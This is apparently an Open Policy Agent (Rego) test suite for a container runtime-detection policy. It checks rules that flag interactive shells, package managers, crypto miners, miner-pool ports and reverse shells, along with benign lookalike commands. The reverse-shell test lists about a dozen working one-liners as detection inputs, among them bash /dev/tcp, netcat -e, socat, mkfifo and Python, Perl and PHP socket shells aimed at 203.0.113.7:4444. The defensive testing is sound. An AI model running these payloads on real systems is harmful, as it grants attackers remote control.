package propolis.runtime_test

import rego.v1

import data.propolis.runtime

_container := {"id": "3f2a9c1d7e5b", "image": "registry.propolis.internal/payments/api:1.4.2"}

_exec(name, cmdline) := {
	"type": "process_exec",
	"proc": {"name": name, "cmdline": cmdline, "pid": 4242},
	"container": _container,
}

_host_exec(name, cmdline) := object.remove(_exec(name, cmdline), ["container"])

_connect(port) := {
	"type": "network_connect",
	"proc": {"name": "worker", "cmdline": "worker --serve"},
	"connection": {"dst_ip": "203.0.113.7", "dst_port": port, "protocol": "tcp"},
	"container": _container,
}

# Evaluates with every tunable unset (null), so the defaults built into
# the policy apply and the tests do not depend on data.json.
_decide(inp) := d if {
	d := runtime.decision with input as inp
		with data.propolis.runtime.shells as null
		with data.propolis.runtime.shell_allowed_images as null
		with data.propolis.runtime.package_managers as null
		with data.propolis.runtime.miner_processes as null
		with data.propolis.runtime.miner_cmdline_patterns as null
		with data.propolis.runtime.miner_pool_ports as null
		with data.propolis.runtime.reverse_shell_patterns as null
		with data.propolis.runtime.responses as null
}

_rules(d) := {x.rule | some x in d.detections}

_clean(d) if {
	d.allow == true
	d.reasons == []
	d.detections == []
	d.severity == "none"
	d.response == "none"
}

# ---------------------------------------------------------------------------
# Benign events
# ---------------------------------------------------------------------------

test_benign_process_allowed if {
	_clean(_decide(_exec("python3", "python3 -m gunicorn app:server")))
}

test_empty_event_allowed if {
	_clean(_decide({}))
}

test_malformed_event_does_not_error if {
	_clean(_decide({"proc": {"name": 42, "cmdline": {"a": 1}}, "container": "x", "connection": {"dst_port": "ssh"}}))
	_clean(_decide({"proc": "bash", "container": {"id": 7}}))
}

# ---------------------------------------------------------------------------
# shell_in_container
# ---------------------------------------------------------------------------

test_shell_in_container_detected if {
	d := _decide(_exec("bash", "bash"))
	d.allow == false
	d.severity == "medium"
	d.response == "alert"
	d.detections == [{
		"rule": "shell_in_container",
		"severity": "medium",
		"description": "shell process 'bash' (cmdline \"bash\") started in container 3f2a9c1d7e5b (image registry.propolis.internal/payments/api:1.4.2); an interactive shell in a running container often means someone is inside it",
	}]
	d.reasons == [concat("", ["shell_in_container (medium): ", d.detections[0].description])]
}

test_shell_name_normalised if {
	_rules(_decide(_exec("/bin/SH", "/bin/sh -c id"))) == {"shell_in_container"}
	_rules(_decide(_exec("/usr/bin/zsh", "zsh"))) == {"shell_in_container"}
}

test_shell_on_host_ignored if {
	_clean(_decide(_host_exec("bash", "bash")))
	_clean(_decide(object.union(_exec("bash", "bash"), {"container": {"id": "host"}})))
	_clean(_decide(object.union(_exec("bash", "bash"), {"container": {"id": ""}})))
}

test_shell_allowed_in_listed_images if {
	inp := object.union(_exec("bash", "bash"), {"container": {"id": "9c", "image": "registry.propolis.internal/tools/debug:2.0"}})
	d := runtime.decision with input as inp
		with data.propolis.runtime.shell_allowed_images as ["registry.propolis.internal/tools/debug"]
	d.allow == true
}

test_shell_allow_list_is_not_a_string_prefix if {
	inp := object.union(_exec("bash", "bash"), {"container": {"id": "9c", "image": "registry.propolis.internal/tools/debugger:2.0"}})
	d := runtime.decision with input as inp
		with data.propolis.runtime.shell_allowed_images as ["registry.propolis.internal/tools/debug"]
	_rules(d) == {"shell_in_container"}
}

test_shells_come_from_data if {
	d := runtime.decision with input as _exec("bash", "bash")
		with data.propolis.runtime.shells as ["pwsh"]
	d.allow == true
	d2 := runtime.decision with input as _exec("pwsh", "pwsh")
		with data.propolis.runtime.shells as ["PWSH"]
	_rules(d2) == {"shell_in_container"}
}

# ---------------------------------------------------------------------------
# package_manager_in_container
# ---------------------------------------------------------------------------

test_package_manager_in_container_detected if {
	d := _decide(_exec("apt-get", "apt-get install -y curl"))
	_rules(d) == {"package_manager_in_container"}
	d.severity == "high"
	d.response == "kill_process"
	contains(d.reasons[0], "ran in container 3f2a9c1d7e5b")
}

test_other_package_managers_detected if {
	every name in ["apk", "yum", "dnf", "pip3", "npm"] {
		_rules(_decide(_exec(name, concat(" ", [name, "install", "x"])))) == {"package_manager_in_container"}
	}
}

test_package_manager_on_host_ignored if {
	_clean(_decide(_host_exec("apt-get", "apt-get upgrade")))
}

# ---------------------------------------------------------------------------
# crypto_miner
# ---------------------------------------------------------------------------

test_miner_process_name_detected if {
	d := _decide(_exec("xmrig", "xmrig --config=/tmp/c.json"))
	_rules(d) == {"crypto_miner"}
	d.severity == "critical"
	d.response == "isolate_container"
}

test_miner_on_host_killed_not_isolated if {
	d := _decide(_host_exec("XMRig", "xmrig"))
	_rules(d) == {"crypto_miner"}
	d.response == "kill_process"
	contains(d.reasons[0], "ran on the host")
}

test_miner_stratum_cmdline_detected if {
	every cmd in [
		"./kworker -o stratum+tcp://pool.example.net:3333 -u wallet",
		"./x --url STRATUM+SSL://pool.example.net:443",
		"./x -o stratum2+tcp://pool.example.net:3333",
		"./systemd-helper --donate-level 1",
	] {
		d := _decide(_exec("kworker", cmd))
		_rules(d) == {"crypto_miner"}
		count(d.detections) == 1
	}
}

test_miner_name_and_cmdline_reported_once if {
	d := _decide(_exec("xmrig", "xmrig -o stratum+tcp://pool.example.net:3333"))
	count(d.detections) == 1
}

test_stratum_word_alone_not_detected if {
	_clean(_decide(_exec("cat", "cat /docs/stratum-protocol.md")))
}

# ---------------------------------------------------------------------------
# reverse_shell
# ---------------------------------------------------------------------------

test_reverse_shells_detected if {
	every cmd in [
		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
		"sh -c 'exec 5<>/dev/udp/203.0.113.7/53'",
		"nc -e /bin/sh 203.0.113.7 4444",
		"nc 203.0.113.7 4444 -e /bin/bash",
		"/bin/nc.traditional -lvpe /bin/sh 4444",
		"netcat -e /bin/sh 203.0.113.7 4444",
		"ncat 203.0.113.7 4444 -c bash",
		"ncat --sh-exec bash 203.0.113.7 4444",
		"socat TCP:203.0.113.7:4444 EXEC:/bin/sh",
		"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
		"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
		"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\")'",
		"php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
	] {
		d := _decide(_exec("worker", cmd))
		"reverse_shell" in _rules(d)
		d.severity == "critical"
		d.response == "isolate_container"
	}
}

test_reverse_shell_cmdline_as_argv if {
	d := _decide(_exec("nc", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]))
	_rules(d) == {"reverse_shell"}
	contains(d.reasons[0], `(cmdline "nc -e /bin/sh 203.0.113.7 4444")`)
}

test_lookalike_commands_not_reverse_shells if {
	every cmd in [
		"nc -z db 5432",
		"ncat --version",
		"rsync -e ssh ./build deploy@host:/srv",
		"grep -e pattern /var/log/app.log",
		"openssl s_client -connect host:443",
		"curl -fsS http://localhost:8080/healthz",
		"ls /dev/tcp",
	] {
		_clean(_decide(_exec("worker", cmd)))
	}
}

test_reverse_shell_and_shell_both_reported_most_severe_first if {
	d := _decide(_exec("bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
	[x.rule | some x in d.detections] == ["reverse_shell", "shell_in_container"]
	[x.severity | some x in d.detections] == ["critical", "medium"]
	d.reasons == sort(d.reasons)
	d.severity == "critical"
}

test_invalid_patterns_in_data_skipped if {
	d := runtime.decision with input as _exec("worker", "nc -e /bin/sh 203.0.113.7 4444")
		with data.propolis.runtime.reverse_shell_patterns as ["(unclosed", 42, `\bnc\b.*-e`]
	_rules(d) == {"reverse_shell"}
	count(d.detections) == 1
}

# ---------------------------------------------------------------------------
# miner_pool_connection
# ---------------------------------------------------------------------------

test_miner_pool_port_connection_detected if {
	d := _decide(_connect(3333))
	_rules(d) == {"miner_pool_connection"}
	d.severity == "high"
	d.response == "kill_process"
	contains(d.reasons[0], "connected to 203.0.113.7 port 3333")
}

test_miner_pool_port_as_string if {
	_rules(_decide(_connect("14444"))) == {"miner_pool_connection"}
}

test_ordinary_ports_allowed if {
	_clean(_decide(_connect(443)))
	_clean(_decide(_connect("0443")))
	_clean(_decide(_connect("https")))
	_clean(_decide(_connect(null)))
}

test_pool_ports_come_from_data if {
	d := runtime.decision with input as _connect(443)
		with data.propolis.runtime.miner_pool_ports as [443]
	_rules(d) == {"miner_pool_connection"}
}

# ---------------------------------------------------------------------------
# Responses
# ---------------------------------------------------------------------------

test_responses_come_from_data if {
	d := runtime.decision with input as _exec("apt-get", "apt-get install curl")
		with data.propolis.runtime.responses as {"high": "isolate_container"}
	d.response == "isolate_container"
	d2 := runtime.decision with input as _exec("bash", "bash")
		with data.propolis.runtime.responses as {"high": "isolate_container"}
	d2.response == "alert"
}

test_unmapped_severity_falls_back_to_alert if {
	d := runtime.decision with input as _exec("bash", "bash")
		with data.propolis.runtime.responses as {"medium": 3}
	d.response == "alert"
}

test_container_without_image_reported_as_unknown if {
	d := _decide({"proc": {"name": "bash", "cmdline": "bash"}, "container": {"id": "3f2a9c1d7e5b"}})
	contains(d.reasons[0], "started in container 3f2a9c1d7e5b (image <unknown>)")
}
